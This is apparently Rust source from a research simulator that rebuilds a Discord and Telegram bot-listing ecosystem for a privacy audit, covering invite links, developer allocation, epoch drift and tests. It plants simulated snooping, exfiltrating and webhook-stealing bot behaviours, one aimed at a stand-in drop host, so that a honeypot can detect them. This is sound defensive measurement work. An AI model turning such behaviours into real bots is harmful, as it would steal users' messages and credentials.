        InviteClass::Valid | InviteClass::SlowRedirect => {
            let perms = bot.permissions.expect("valid bots carry permissions");
            let (rights, privacy_mode) = telegram_profile(perms);
            let username = telegram_username(&bot.name);
            let id = tg
                .register_bot(&username, rights, privacy_mode)
                .expect("plan names are unique");
            let link = deep_link(&username, rights);
            let link = if bot.invite_class == InviteClass::SlowRedirect {
                let host = format!("slow-redir-{idx}.sim");
                let target = link.clone();
                net.mount_with(
                    &host,
                    move |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::redirect(&target),
                    LatencyModel::Fixed { ms: 120_000 },
                    FaultPlan::none(),
                );
                format!("https://{host}/invite")
            } else {
                link
            };
            (id, link)
        }
        InviteClass::Removed => {
            // A deep link whose username was never registered: the gate
            // answers 410 Gone, the Telegram shape of a deleted bot.
            let perms = bot
                .ghost_permissions
                .expect("removed bots carry ghost perms");
            let (rights, _) = telegram_profile(perms);
            (0, deep_link(&format!("ghost{idx}bot"), rights))
        }
        InviteClass::Malformed => {
            let link = match idx % 3 {
                0 => format!("https://{TELEGRAM_DEEPLINK_HOST}/"),
                1 => format!("https://{TELEGRAM_DEEPLINK_HOST}/?start=x"),
                _ => "join my group!!".to_string(),
            };
            (0, link)
        }
        InviteClass::DeadRedirect => (0, format!("https://redir-{idx}.dead.sim/inv")),
    }
}

impl Ecosystem {
    /// The listing-site id of the bot at plan index `idx` (client id for
    /// registered bots, the synthetic `8e9 + idx` id otherwise) — the same
    /// rule the mount phase uses, so drift ledgers can name listing pages.
    pub fn listing_id(&self, idx: usize) -> u64 {
        let t = &self.truth.bots[idx];
        if t.client_id != 0 {
            t.client_id
        } else {
            8_000_000_000 + idx as u64
        }
    }

    /// Build the behaviour box for a planted behaviour class.
    pub fn behavior_for(class: BehaviorClass) -> Box<dyn Behavior> {
        match class {
            BehaviorClass::Benign => Box::new(BenignBehavior::new("fun")),
            // Trigger threshold below the 25-message feed so a campaign
            // observes the snoop, mirroring Melonian's behaviour window.
            BehaviorClass::Snooper => Box::new(SnooperBehavior::new(12)),
            BehaviorClass::Exfiltrator => Box::new(ExfiltratorBehavior::new(None).spamming()),
            BehaviorClass::WebhookThief => {
                Box::new(botsdk::WebhookThiefBehavior::new("drop.zone.sim"))
            }
        }
    }

    /// Build the Telegram-side behaviour box for a planted behaviour
    /// class. Webhook theft has no Telegram shape (no webhooks exist), so
    /// a planted thief degrades to a benign backend there — the honeypot's
    /// cross-platform comparison sees the threat class disappear.
    pub fn behavior_for_telegram(class: BehaviorClass) -> Box<dyn TgBehavior> {
        match class {
            BehaviorClass::Benign | BehaviorClass::WebhookThief => {
                Box::new(telegram_sim::TgBenignBehavior::new("fun"))
            }
            BehaviorClass::Snooper => Box::new(telegram_sim::TgSnooperBehavior::new(12)),
            BehaviorClass::Exfiltrator => {
                Box::new(telegram_sim::TgExfiltratorBehavior::new(None).spamming())
            }
        }
    }

    /// The most-voted valid bots, ready for a honeypot campaign: name,
    /// client id, bot account, invite, and the planted behaviour.
    pub fn most_voted_testable(
        &self,
        count: usize,
    ) -> Vec<(BotTruth, InviteUrl, discord_sim::UserId, Box<dyn Behavior>)> {
        let mut out = Vec::new();
        let mut sorted: Vec<&BotTruth> = self.truth.valid_bots().collect();
        sorted.sort_by(|a, b| {
            b.vote_count
                .cmp(&a.vote_count)
                .then(a.client_id.cmp(&b.client_id))
        });
        for bot in sorted.into_iter().take(count) {
            let Ok(app) = self.platform.application(bot.client_id) else {
                continue;
            };
            let Some(perms) = bot.permissions else {
                continue;
            };
            out.push((
                bot.clone(),
                InviteUrl::bot(bot.client_id, perms),
                app.bot_user,
                Self::behavior_for(bot.behavior),
            ));
        }
        out
    }

    /// The Telegram twin of [`Ecosystem::most_voted_testable`]: the
    /// most-voted valid bots with their deep links and planted backends.
    /// Panics if the world was not mounted on the Telegram substrate.
    pub fn most_voted_testable_telegram(
        &self,
        count: usize,
    ) -> Vec<(BotTruth, String, ActorId, Box<dyn TgBehavior>)> {
        let tg = self.telegram.as_ref().expect("a Telegram-substrate world");
        let mut out = Vec::new();
        let mut sorted: Vec<&BotTruth> = self.truth.valid_bots().collect();
        sorted.sort_by(|a, b| {
            b.vote_count
                .cmp(&a.vote_count)
                .then(a.client_id.cmp(&b.client_id))
        });
        for bot in sorted.into_iter().take(count) {
            let username = telegram_username(&bot.name);
            let Some(actor) = tg.bot_by_username(&username) else {
                continue;
            };
            let Some(perms) = bot.permissions else {
                continue;
            };
            let (rights, _) = telegram_profile(perms);
            out.push((
                bot.clone(),
                deep_link(&username, rights),
                actor,
                Self::behavior_for_telegram(bot.behavior),
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::truth::GithubClass;
    use discord_sim::Permissions;

    #[test]
    fn ecosystem_shape_matches_calibration() {
        let config = EcosystemConfig::test_scale(2000, 11);
        let eco = build_ecosystem(&config);
        assert_eq!(eco.truth.bots.len(), 2000);
        assert_eq!(eco.site.listing_count(), 2000);

        let valid = eco.truth.valid_bots().count() as f64 / 2000.0;
        assert!((valid - 0.74).abs() < 0.05, "valid fraction {valid}");

        let admin_rate = eco.truth.permission_rate(Permissions::ADMINISTRATOR);
        assert!(
            (admin_rate - 0.5486).abs() < 0.05,
            "admin rate {admin_rate}"
        );
        let send_rate = eco.truth.permission_rate(Permissions::SEND_MESSAGES);
        assert!((send_rate - 0.5918).abs() < 0.05, "send rate {send_rate}");
    }

    #[test]
    fn valid_bots_are_registered_on_the_platform() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(200, 12));
        for bot in eco.truth.valid_bots() {
            assert!(
                eco.platform.application(bot.client_id).is_ok(),
                "{}",
                bot.name
            );
        }
    }

    #[test]
    fn snooper_is_planted_with_valid_invite_and_name() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 13));
        let snoopers: Vec<_> = eco
            .truth
            .bots
            .iter()
            .filter(|b| b.behavior == BehaviorClass::Snooper)
            .collect();
        assert_eq!(snoopers.len(), 1);
        assert_eq!(snoopers[0].name, "Melonian");
        assert_eq!(snoopers[0].invite_class, InviteClass::Valid);
    }

    #[test]
    fn most_voted_testable_returns_installable_bots() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 14));
        let testable = eco.most_voted_testable(20);
        assert_eq!(testable.len(), 20);
        // Sorted by votes, descending.
        for pair in testable.windows(2) {
            assert!(pair[0].0.vote_count >= pair[1].0.vote_count);
        }
        // Every invite installs for real.
        let owner = eco.platform.register_user("tester", "t@x.y");
        let guild = eco
            .platform
            .create_guild(owner, "probe", GuildVisibility::Private)
            .unwrap();
        for (truth, invite, bot_user, _behavior) in &testable {
            let installed = eco
                .platform
                .install_bot(owner, guild, invite, true)
                .unwrap();
            assert_eq!(installed, *bot_user, "{}", truth.name);
        }
    }

    #[test]
    fn website_and_github_fractions_roughly_hold() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(3000, 15));
        let valid: Vec<_> = eco.truth.valid_bots().collect();
        let n = valid.len() as f64;
        let with_site = valid
            .iter()
            .filter(|b| b.policy_class != PolicyClass::NoWebsite)
            .count() as f64;
        assert!(
            (with_site / n - 0.3727).abs() < 0.04,
            "website fraction {}",
            with_site / n
        );
        let with_gh = valid
            .iter()
            .filter(|b| b.github_class != GithubClass::None)
            .count() as f64;
        assert!(
            (with_gh / n - 0.2386).abs() < 0.04,
            "github fraction {}",
            with_gh / n
        );
    }

    #[test]
    fn least_voted_bots_are_offline() {
        // §4.2: "We considered doing a sample from the middle and least
        // voted but they were mainly offline or not being used (i.e., in 0
        // guilds)." The popularity curve plants exactly that.
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 17));
        let mut by_votes: Vec<&crate::truth::BotTruth> = eco.truth.bots.iter().collect();
        by_votes.sort_by_key(|b| std::cmp::Reverse(b.vote_count));
        let bottom: Vec<_> = by_votes.iter().rev().take(30).collect();
        assert!(
            bottom.iter().all(|b| b.guild_count == 0),
            "least-voted bots sit in 0 guilds"
        );
        let top: Vec<_> = by_votes.iter().take(30).collect();
        assert!(
            top.iter().all(|b| b.guild_count >= 25),
            "most-voted are in real use"
        );
        // Vote range spans orders of magnitude (paper: 876K → 6; the floor
        // of 6 binds only at paper scale, so assert the spread shape here).
        assert!(by_votes[0].vote_count > 100_000);
        assert!(by_votes.last().unwrap().vote_count < by_votes[0].vote_count / 500);
    }

    #[test]
    fn deterministic_world() {
        let a = build_ecosystem(&EcosystemConfig::test_scale(150, 16));
        let b = build_ecosystem(&EcosystemConfig::test_scale(150, 16));
        let names_a: Vec<&String> = a.truth.bots.iter().map(|x| &x.name).collect();
        let names_b: Vec<&String> = b.truth.bots.iter().map(|x| &x.name).collect();
        assert_eq!(names_a, names_b);
        let perms_a: Vec<_> = a.truth.bots.iter().map(|x| x.permissions).collect();
        let perms_b: Vec<_> = b.truth.bots.iter().map(|x| x.permissions).collect();
        assert_eq!(perms_a, perms_b);
    }

    fn telegram_config(num_bots: usize, seed: u64) -> EcosystemConfig {
        EcosystemConfig {
            platform: PlatformKind::Telegram,
            ..EcosystemConfig::test_scale(num_bots, seed)
        }
    }

    #[test]
    fn telegram_world_shares_the_plan_but_swaps_the_substrate() {
        let discord = build_ecosystem(&EcosystemConfig::test_scale(200, 18));
        let tg = build_ecosystem(&telegram_config(200, 18));
        assert_eq!(tg.kind, PlatformKind::Telegram);
        assert_eq!(tg.list_host, TELEGRAM_LIST_HOST);
        assert_eq!(discord.list_host, LIST_HOST);
        assert!(tg.telegram.is_some());
        assert!(discord.telegram.is_none());
        // Same plan: identical names, behaviours, and invite-health mix.
        let names = |e: &Ecosystem| {
            e.truth
                .bots
                .iter()
                .map(|b| b.name.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(names(&discord), names(&tg));
        let classes = |e: &Ecosystem| {
            e.truth
                .bots
                .iter()
                .map(|b| b.invite_class)
                .collect::<Vec<_>>()
        };
        assert_eq!(classes(&discord), classes(&tg));
        // Every valid bot registered under its slug with the mapped rights.
        let platform = tg.telegram.as_ref().unwrap();
        for bot in tg.truth.valid_bots() {
            let username = telegram_username(&bot.name);
            let actor = platform.bot_by_username(&username).expect("registered");
            let (_, rights, _) = platform.bot_info(actor).unwrap();
            let (expected, _) = telegram_profile(bot.permissions.unwrap());
            assert_eq!(rights, expected, "{}", bot.name);
        }
    }

    #[test]
    fn telegram_listing_links_are_deep_links() {
        use netsim::client::{ClientConfig, HttpClient};
        let eco = build_ecosystem(&telegram_config(150, 19));
        let mut client = HttpClient::new(eco.net.clone(), ClientConfig::impolite("test"));
        for bot in eco.truth.valid_bots() {
            // Valid listings point at t.sim, either directly (with the
            // requested rights echoed in the deep link) or via the slow
            // redirector; never at a Discord OAuth gate.
            let page = client
                .get(netsim::Url::https(
                    TELEGRAM_LIST_HOST,
                    &format!("/bot/{}", bot.client_id),
                ))
                .unwrap()
                .text();
            let username = telegram_username(&bot.name);
            assert!(
                page.contains(&format!("t.sim/{username}?startgroup=true"))
                    || page.contains("slow-redir"),
                "{}: {}",
                bot.name,
                page
            );
            assert!(
                !page.contains("discord.sim"),
                "no OAuth URLs on the Telegram substrate"
            );
        }
    }

    #[test]
    fn telegram_testable_sample_is_installable() {
        let eco = build_ecosystem(&telegram_config(200, 20));
        let testable = eco.most_voted_testable_telegram(15);
        assert_eq!(testable.len(), 15);
        for pair in testable.windows(2) {
            assert!(pair[0].0.vote_count >= pair[1].0.vote_count);
        }
        let tg = eco.telegram.as_ref().unwrap();
        let owner = tg.register_user("tester", "t@x.y");
        let group = tg.create_group(owner, "probe").unwrap();
        for (truth, link, actor, _behavior) in &testable {
            let username = telegram_username(&truth.name);
            assert!(link.contains(&username), "{link}");
            let installed = tg.add_bot_to_group(owner, group, *actor).unwrap();
            assert_eq!(installed, *actor);
        }
    }

    #[test]
    fn telegram_profile_mapping_is_coarse_and_deterministic() {
        // Blanket admin → every right, privacy off.
        let (rights, privacy) = telegram_profile(Permissions::ADMINISTRATOR);
        assert_eq!(rights, TgRights::ALL_KNOWN);
        assert!(!privacy, "admins read everything");
        // A read-history bot flips privacy off even with no admin rights.
        let (rights, privacy) =
            telegram_profile(Permissions::READ_MESSAGE_HISTORY | Permissions::SEND_MESSAGES);
        assert_eq!(rights, TgRights::POST_MESSAGES);
        assert!(!privacy);
        // An ordinary command bot keeps privacy mode on.
        let (rights, privacy) =
            telegram_profile(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
        assert_eq!(rights, TgRights::POST_MESSAGES);
        assert!(privacy);
        // Moderation intent maps onto the coarse moderation rights.
        let (rights, _) = telegram_profile(
            Permissions::MANAGE_MESSAGES | Permissions::BAN_MEMBERS | Permissions::SEND_MESSAGES,
        );
        assert!(rights.contains(TgRights::DELETE_MESSAGES));
        assert!(rights.contains(TgRights::PIN_MESSAGES));
        assert!(rights.contains(TgRights::BAN_USERS));
        assert!(!rights.contains(TgRights::PROMOTE_MEMBERS));
    }

    #[test]
    fn least_privilege_mount_registers_commands() {
        let config = EcosystemConfig {
            least_privilege_delivery: true,
            ..EcosystemConfig::test_scale(120, 21)
        };
        let eco = build_ecosystem(&config);
        assert!(eco.platform.least_privilege_delivery());
        let with_commands = eco
            .truth
            .valid_bots()
            .filter(|b| {
                let Ok(app) = eco.platform.application(b.client_id) else {
                    return false;
                };
                !eco.platform.registered_commands(app.bot_user).is_empty()
            })
            .count();
        assert!(with_commands > 0, "valid bots registered their commands");
        // The default mount leaves the mitigation off.
        let plain = build_ecosystem(&EcosystemConfig::test_scale(120, 21));
        assert!(!plain.platform.least_privilege_delivery());
    }
}
