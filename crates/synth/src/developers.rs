//! Developer allocation (Table 1).
//!
//! Table 1 attributes 14,201 bots to 12,427 developers (11,070 developers
//! with a single bot, down to one developer — `editid#6714` — with 12).
//! The remaining listings in the 20,915 crawl have no attributed developer;
//! §4.2 observes many are produced on third-party platforms like
//! botghost.com, so those get platform handles instead.

use crate::config::TABLE1_DEVELOPER_DISTRIBUTION;
use rand::Rng;

/// The development platforms §4.2 names.
pub const THIRD_PARTY_PLATFORMS: &[&str] =
    &["botghost.com", "autocode.com", "discordbotstudio.org"];

/// Assign a developer handle to each of `num_bots` bots.
///
/// The Table 1 histogram is reproduced proportionally: at full paper scale
/// (20,915 bots) it is exact. Bots beyond the attributed pool get a
/// third-party-platform pseudo-developer.
pub fn assign_developers<R: Rng + ?Sized>(rng: &mut R, num_bots: usize) -> Vec<Vec<String>> {
    const PAPER_TOTAL: f64 = 20_915.0;
    let scale = num_bots as f64 / PAPER_TOTAL;

    // Build the developer pool: for each (bots-per-dev, count) row, scale
    // the developer count, keeping at least one for the rare rows so small
    // ecosystems still exhibit the long tail.
    let mut assignments: Vec<Vec<String>> = Vec::with_capacity(num_bots);
    let mut dev_counter = 0u32;
    'outer: for (bots_per_dev, dev_count) in TABLE1_DEVELOPER_DISTRIBUTION {
        let scaled = ((*dev_count as f64) * scale).round().max(1.0) as u32;
        for _ in 0..scaled {
            dev_counter += 1;
            let handle = if *bots_per_dev == 12 {
                // The paper names the most prolific developer.
                "editid#6714".to_string()
            } else {
                format!("dev-{dev_counter:05}#{:04}", 1000 + (dev_counter % 9000))
            };
            for _ in 0..*bots_per_dev {
                if assignments.len() >= num_bots {
                    break 'outer;
                }
                assignments.push(vec![handle.clone()]);
            }
        }
    }

    // Remaining bots: third-party development platforms.
    while assignments.len() < num_bots {
        let platform = THIRD_PARTY_PLATFORMS[rng.gen_range(0..THIRD_PARTY_PLATFORMS.len())];
        let n = assignments.len();
        assignments.push(vec![format!("{platform}/user-{n:05}")]);
    }

    // Shuffle so developer runs don't correlate with vote rank.
    for i in (1..assignments.len()).rev() {
        let j = rng.gen_range(0..=i);
        assignments.swap(i, j);
    }
    assignments
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use std::collections::BTreeMap;

    fn histogram(assignments: &[Vec<String>]) -> BTreeMap<u32, u32> {
        let mut per_dev: BTreeMap<&str, u32> = BTreeMap::new();
        for devs in assignments {
            for d in devs.iter().filter(|d| !d.contains('/')) {
                *per_dev.entry(d).or_default() += 1;
            }
        }
        let mut hist: BTreeMap<u32, u32> = BTreeMap::new();
        for (_, n) in per_dev {
            *hist.entry(n).or_default() += 1;
        }
        hist
    }

    #[test]
    fn every_bot_gets_a_developer() {
        let mut rng = StdRng::seed_from_u64(1);
        let a = assign_developers(&mut rng, 300);
        assert_eq!(a.len(), 300);
        assert!(a.iter().all(|devs| !devs.is_empty()));
    }

    #[test]
    fn full_scale_reproduces_table1_exactly() {
        let mut rng = StdRng::seed_from_u64(2);
        let a = assign_developers(&mut rng, 20_915);
        let hist = histogram(&a);
        for (bots_per_dev, dev_count) in TABLE1_DEVELOPER_DISTRIBUTION {
            let got = hist.get(bots_per_dev).copied().unwrap_or(0);
            // Allow the last allocation bucket to be clipped by the total.
            let tolerance = (*dev_count as f64 * 0.01).max(2.0) as u32;
            assert!(
                got.abs_diff(*dev_count) <= tolerance,
                "bots/dev={bots_per_dev}: got {got}, want {dev_count}"
            );
        }
        // editid#6714 exists with 12 bots.
        let editid: u32 = a.iter().filter(|d| d[0] == "editid#6714").count() as u32;
        assert_eq!(editid, 12);
        // And third-party platforms fill the unattributed remainder.
        let platform_bots = a
            .iter()
            .filter(|d| d[0].contains(".com/") || d[0].contains(".org/"))
            .count();
        assert_eq!(platform_bots, 20_915 - 14_201);
    }

    #[test]
    fn small_scale_keeps_the_long_tail() {
        let mut rng = StdRng::seed_from_u64(3);
        let a = assign_developers(&mut rng, 500);
        let hist = histogram(&a);
        // Even a small ecosystem has at least one prolific developer.
        assert!(hist.keys().any(|&k| k >= 11), "histogram: {hist:?}");
    }

    #[test]
    fn deterministic() {
        let a = assign_developers(&mut StdRng::seed_from_u64(7), 200);
        let b = assign_developers(&mut StdRng::seed_from_u64(7), 200);
        assert_eq!(a, b);
    }
}
