//! Longitudinal ecosystem drift.
//!
//! The paper audited one snapshot of the listing site; its discussion (and
//! the follow-up literature on bot privacy) argues the risks are *moving*:
//! bots gain permissions, rewrite or abandon their privacy policies, take
//! source repositories private, and change backend behaviour between
//! audits. This module models that as **epochs**: epoch 0 is the frozen
//! world [`crate::build_ecosystem`] produces, and each later epoch applies
//! a seeded batch of per-bot mutations on top of the previous one.
//!
//! Drift draws from its own RNG stream (seeded from the world seed and the
//! epoch number), never from the epoch-0 plan stream — so adding drift
//! cannot perturb the base world, and a bot the drift layer leaves alone
//! serves byte-identical crawl content in every epoch. That invariant is
//! what the incremental re-audit path builds on: the content-addressed
//! artifact cache recognises unchanged bots and skips their re-analysis.
//!
//! Four mutation kinds are modelled; all are cumulative across epochs:
//!
//! * **Permission creep** — a live invite gains one permission it did not
//!   request before (crawl-visible: the invite URL changes);
//! * **Policy churn** — the website's policy hosting moves one step along
//!   `none → partial → complete → dead` (crawl-visible: policy bytes);
//! * **GitHub churn** — a listing gains a fresh repository link or drops
//!   its existing one (crawl-visible; shared repos stay published so other
//!   bots' links keep resolving);
//! * **Behaviour flips** — a benign backend turns snooper or a malicious
//!   one cleans up its act (*not* crawl-visible: only the honeypot can see
//!   it, exactly like the real ecosystem).

use crate::build::{mount_world, Ecosystem};
use crate::config::{EcosystemConfig, FIGURE3_PERMISSION_RATES};
use crate::plan::{plan_world, GithubPublish, WorldPlan};
use crate::truth::{BehaviorClass, InviteClass, PolicyClass};
use codeanal::genrepo;
use codeanal::github::GITHUB_HOST;
use discord_sim::Permissions;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};

/// Per-epoch mutation probabilities. Each is the chance that one bot
/// experiences that mutation kind in one epoch step.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DriftConfig {
    /// Chance a live invite gains a permission.
    pub permission_creep: f64,
    /// Chance a website's policy hosting changes.
    pub policy_churn: f64,
    /// Chance a listing gains/loses its GitHub link.
    pub github_churn: f64,
    /// Chance a backend's behaviour flips.
    pub behavior_churn: f64,
}

impl Default for DriftConfig {
    fn default() -> Self {
        DriftConfig {
            permission_creep: 0.06,
            policy_churn: 0.08,
            github_churn: 0.05,
            behavior_churn: 0.02,
        }
    }
}

impl DriftConfig {
    /// A completely static ecosystem: every epoch re-serves epoch 0.
    pub fn frozen() -> DriftConfig {
        DriftConfig {
            permission_creep: 0.0,
            policy_churn: 0.0,
            github_churn: 0.0,
            behavior_churn: 0.0,
        }
    }
}

/// One applied mutation.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum DriftKind {
    /// The invite gained `added`.
    PermissionCreep {
        /// Canonical name of the gained permission.
        added: String,
    },
    /// The policy hosting class changed.
    PolicyRewrite {
        /// Class before the rewrite.
        from: PolicyClass,
        /// Class after the rewrite.
        to: PolicyClass,
    },
    /// The GitHub link was added (`true`) or removed (`false`).
    GithubChurn {
        /// Whether a link was added (vs. removed).
        added: bool,
    },
    /// The backend behaviour flipped.
    BehaviorFlip {
        /// Behaviour before the flip.
        from: BehaviorClass,
        /// Behaviour after the flip.
        to: BehaviorClass,
    },
}

/// One bot's mutation in one epoch.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DriftEvent {
    /// Listing index of the mutated bot.
    pub idx: usize,
    /// Listing name (stable across epochs).
    pub bot: String,
    /// What changed.
    pub kind: DriftKind,
    /// Whether the crawler can observe the change (behaviour flips are
    /// invisible to the static pipeline — only the honeypot sees them).
    pub crawl_visible: bool,
}

/// Everything that changed in one epoch step.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct EpochDrift {
    /// The epoch these events produced (events lead from `epoch - 1` to
    /// `epoch`).
    pub epoch: u32,
    /// Applied mutations, in listing order.
    pub events: Vec<DriftEvent>,
}

impl EpochDrift {
    /// Listing indices whose *crawl bytes* changed this epoch — exactly the
    /// bots an incremental re-audit must re-analyze (the artifact cache
    /// serves everyone else).
    pub fn content_drifted(&self) -> BTreeSet<usize> {
        self.events
            .iter()
            .filter(|e| e.crawl_visible)
            .map(|e| e.idx)
            .collect()
    }

    /// Bots whose planted backend behaviour flipped this epoch.
    pub fn behavior_flips(&self) -> Vec<&DriftEvent> {
        self.events
            .iter()
            .filter(|e| matches!(e.kind, DriftKind::BehaviorFlip { .. }))
            .collect()
    }
}

/// Build the world as it stands at `epoch` (0 = the frozen snapshot), plus
/// the drift log for every epoch step along the way.
///
/// Drift is cumulative and deterministic: `build_ecosystem_at(c, d, 2)`
/// applies epoch 1's mutations and then epoch 2's on top, and always
/// produces the same world for the same `(config, drift, epoch)` triple.
pub fn build_ecosystem_at(
    config: &EcosystemConfig,
    drift: &DriftConfig,
    epoch: u32,
) -> (Ecosystem, Vec<EpochDrift>) {
    let mut plan = plan_world(config);
    let mut log = Vec::with_capacity(epoch as usize);
    for step in 1..=epoch {
        log.push(drift_epoch(&mut plan, config, drift, step));
    }
    let eco = mount_world(&plan, config);
    // Publish the crawl-visible ledger through the listing site's
    // `/changed` endpoint, so conditional-fetch crawlers can cross-check
    // their validators against what actually moved.
    let mut change: BTreeMap<u32, Vec<u64>> = BTreeMap::new();
    for step in &log {
        change.insert(
            step.epoch,
            step.content_drifted()
                .iter()
                .map(|&idx| eco.listing_id(idx))
                .collect(),
        );
    }
    eco.site.set_change_log(epoch, change);
    (eco, log)
}

/// The drift RNG stream for one epoch: decoupled from the plan stream and
/// from every other epoch's stream.
fn epoch_rng(seed: u64, epoch: u32) -> StdRng {
    StdRng::seed_from_u64(
        seed ^ 0x6472_6966_745f_7631u64 ^ (epoch as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15),
    )
}

/// Mutate `plan` in place from epoch `epoch - 1` to `epoch`.
fn drift_epoch(
    plan: &mut WorldPlan,
    config: &EcosystemConfig,
    drift: &DriftConfig,
    epoch: u32,
) -> EpochDrift {
    let mut rng = epoch_rng(config.seed, epoch);
    let mut events = Vec::new();

    for bot in plan.bots.iter_mut() {
        // Draw every category for every bot, in a fixed order, so the
        // stream never depends on the (mutated) plan state.
        let creep = rng.gen_bool(drift.permission_creep);
        let policy = rng.gen_bool(drift.policy_churn);
        let github = rng.gen_bool(drift.github_churn);
        let behavior = rng.gen_bool(drift.behavior_churn);

        if creep {
            if let Some(perms) = bot.permissions.as_mut() {
                let start = rng.gen_range(0..FIGURE3_PERMISSION_RATES.len());
                for off in 0..FIGURE3_PERMISSION_RATES.len() {
                    let (name, _) =
                        FIGURE3_PERMISSION_RATES[(start + off) % FIGURE3_PERMISSION_RATES.len()];
                    let bit = Permissions::by_name(name).expect("calibration names are canonical");
                    if !perms.contains(bit) {
                        *perms |= bit;
                        events.push(DriftEvent {
                            idx: bot.idx,
                            bot: bot.name.clone(),
                            kind: DriftKind::PermissionCreep {
                                added: name.to_string(),
                            },
                            // Slow-redirect invites time out before the
                            // crawler ever sees the permission set, so the
                            // creep only shows up for cleanly valid links.
                            crawl_visible: bot.invite_class == InviteClass::Valid,
                        });
                        break;
                    }
                }
            }
        }

        if policy && bot.policy_class != PolicyClass::NoWebsite {
            let from = bot.policy_class;
            let to = match from {
                // A site that never had (or lost) its policy publishes a
                // tailored partial one.
                PolicyClass::NoPolicy | PolicyClass::DeadPolicyLink => {
                    let practices = [
                        policy::DataPractice::Collect,
                        policy::DataPractice::Use,
                        policy::DataPractice::Retain,
                    ];
                    let n = rng.gen_range(1usize..=3);
                    bot.policy = Some(policy::corpus::partial_policy(
                        &mut rng,
                        &bot.name,
                        &practices[..n],
                        true,
                    ));
                    PolicyClass::PartialPolicy
                }
                // A boilerplate or partial policy matures into a complete
                // one — the traceability upgrade the paper hoped to see.
                PolicyClass::GenericPolicy | PolicyClass::PartialPolicy => {
                    bot.policy = Some(policy::corpus::complete_policy(&mut rng, &bot.name, true));
                    PolicyClass::CompletePolicy
                }
                // Complete policies rot: the link 404s and traceability
                // collapses back to broken.
                PolicyClass::CompletePolicy => {
                    bot.policy = None;
                    PolicyClass::DeadPolicyLink
                }
                PolicyClass::NoWebsite => unreachable!(),
            };
            bot.policy_class = to;
            events.push(DriftEvent {
                idx: bot.idx,
                bot: bot.name.clone(),
                kind: DriftKind::PolicyRewrite { from, to },
                crawl_visible: true,
            });
        }

        if github {
            if bot.github_class == crate::truth::GithubClass::None {
                // Publish a fresh docs repo under an epoch-scoped owner so
                // the slug can never collide with a plan-phase publish.
                let slug = format!("drift{epoch}-{}/{}-docs", bot.idx, bot.name.to_lowercase());
                bot.publishes
                    .push(GithubPublish::Repo(genrepo::readme_only_repo(&slug)));
                bot.github_link = Some(format!("https://{GITHUB_HOST}/{slug}"));
                bot.github_class = crate::truth::GithubClass::ReadmeOnly;
                events.push(DriftEvent {
                    idx: bot.idx,
                    bot: bot.name.clone(),
                    kind: DriftKind::GithubChurn { added: true },
                    crawl_visible: true,
                });
            } else {
                // Drop the link but keep any plan-phase publishes mounted:
                // a template developer's other bots still point there.
                bot.github_link = None;
                bot.github_class = crate::truth::GithubClass::None;
                events.push(DriftEvent {
                    idx: bot.idx,
                    bot: bot.name.clone(),
                    kind: DriftKind::GithubChurn { added: false },
                    crawl_visible: true,
                });
            }
        }

        if behavior && bot.invite_class == InviteClass::Valid {
            let from = bot.behavior;
            let to = match from {
                // A benign backend turns snooper (the update-channel attack
                // the related work warns about) — installable, so the
                // honeypot can catch it next epoch.
                BehaviorClass::Benign => BehaviorClass::Snooper,
                // A caught (or cautious) malicious backend goes quiet.
                BehaviorClass::Snooper
                | BehaviorClass::Exfiltrator
                | BehaviorClass::WebhookThief => BehaviorClass::Benign,
            };
            bot.behavior = to;
            events.push(DriftEvent {
                idx: bot.idx,
                bot: bot.name.clone(),
                kind: DriftKind::BehaviorFlip { from, to },
                crawl_visible: false,
            });
        }
    }

    EpochDrift { epoch, events }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build_ecosystem;

    fn config() -> EcosystemConfig {
        EcosystemConfig::test_scale(120, 2022)
    }

    fn listing_fingerprint(eco: &Ecosystem) -> Vec<String> {
        // The detail-page-visible surface of each bot, via ground truth +
        // listing metadata (the crawler sees exactly this projection).
        eco.truth
            .bots
            .iter()
            .map(|b| {
                format!(
                    "{}|{:?}|{:?}|{:?}|{:?}",
                    b.name, b.permissions, b.policy_class, b.github_class, b.invite_class
                )
            })
            .collect()
    }

    #[test]
    fn epoch_zero_is_the_frozen_world() {
        let (drifted, log) = build_ecosystem_at(&config(), &DriftConfig::default(), 0);
        let base = build_ecosystem(&config());
        assert!(log.is_empty());
        assert_eq!(listing_fingerprint(&drifted), listing_fingerprint(&base));
    }

    #[test]
    fn drift_is_deterministic_and_cumulative() {
        let drift = DriftConfig::default();
        let (eco_a, log_a) = build_ecosystem_at(&config(), &drift, 2);
        let (eco_b, log_b) = build_ecosystem_at(&config(), &drift, 2);
        assert_eq!(log_a, log_b);
        assert_eq!(listing_fingerprint(&eco_a), listing_fingerprint(&eco_b));
        assert_eq!(log_a.len(), 2);
        assert!(
            !log_a[0].events.is_empty() && !log_a[1].events.is_empty(),
            "default rates must move a 120-bot world"
        );
        // Epoch 1 of a 2-epoch build equals a 1-epoch build's epoch 1.
        let (_, log_short) = build_ecosystem_at(&config(), &drift, 1);
        assert_eq!(log_a[0], log_short[0]);
    }

    #[test]
    fn frozen_drift_changes_nothing() {
        let (eco, log) = build_ecosystem_at(&config(), &DriftConfig::frozen(), 3);
        assert!(log.iter().all(|e| e.events.is_empty()));
        assert_eq!(
            listing_fingerprint(&eco),
            listing_fingerprint(&build_ecosystem(&config()))
        );
    }

    #[test]
    fn undrifted_bots_are_untouched_and_drifted_bots_changed() {
        let drift = DriftConfig::default();
        let (eco, log) = build_ecosystem_at(&config(), &drift, 1);
        let base = build_ecosystem(&config());
